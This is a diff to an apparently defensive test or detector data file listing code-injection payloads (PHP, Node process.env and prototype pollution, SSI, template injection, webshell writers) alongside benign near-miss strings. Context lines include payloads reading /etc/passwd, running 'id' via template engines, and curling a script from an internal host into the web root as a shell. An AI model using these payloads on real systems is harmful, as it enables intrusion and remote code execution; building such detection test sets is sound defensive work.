@@ -75,7 +75,7 @@ CODE_PAYLOADS = {
             "exec#\n (blah)", "symlink//c\n()", "touch/*a\r\nb*/()", "pi\x0b()", "FILE\r\n()",
             "pg_query(", "array_diff (", "<?=1?>", "<?xml :echo 1;", "$ {$a}", "$ {'fdf'}", "${'_V'.'AR'}"],
     "node": ["console.info(1)", "console[\"log\"](1)", "while(-1);", "while(!!\"\");", "module.exports=x",
-             "eval(String.fromCharCode(97))"],
+             "eval(String.fromCharCode(97))", "process.env", "process[\"env\"]", '{"0": "$7:Module:prototype"}'],
     "ssi": ['<!--#exec cmd="/bin/cat /etc/passwd"-->', "<!--#include virtual=\"/etc/passwd\"-->",
             '<!--#echo var="DOCUMENT_ROOT"-->', '<esi:include src="http://x.example/a"/>'],
     "template": ["{{7*7}}", "${7*7}", "{{7*'7'}}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{{config.items()}}",
@@ -85,7 +85,7 @@ CODE_PAYLOADS = {
                  "{{lipsum.__globals__.os.popen('id')}}", "{{ cycler.__init__.__globals__.os }}",
                  "{php}echo `id`;{/php}", "{$smarty.version}", "<%= `ls` %>", "<%= File.open('/etc/passwd').read %>",
                  "{{constructor.constructor('return process')()}}", "*{T(java.lang.Runtime).getRuntime()}",
-                 "{{ ['id']|filter('system') }}"],
+                 "{{ ['id']|filter('system') }}", "{% if True %}49{% endif %}", "<% if 1 %>49<% endif %>"],
     "webshell": ["echo '<?php system($_GET[1]); ?>' > x.php", "x; echo PD9waHA= | base64 -d > shell.php",
                  "curl http://10.0.0.9/s.txt -o /var/www/html/s.php", "printf '<%=x%>' > /srv/a.jsp"],
 }
@@ -99,6 +99,7 @@ CODE_NEAR_MISSES = [
     "costs $5 (approx)", "$TSLA(+5%) today", "stream_recording (2).mp4", "item #1\n(2 pcs)", "see (below)",
     "array_diff (see the manual) compares arrays", "C# (C sharp)", "Cost: $ 5 {net}", "the \"system\" (ours)",
     "<?xml version=\"1.0\" encoding=\"utf-8\"?>", "(note)(2)", "$a (dollar a)",
+    "`require('myModule2')`.", "the process. Then", "{% if user.is_admin %}", "a process [1] ran",
 ]
 
 
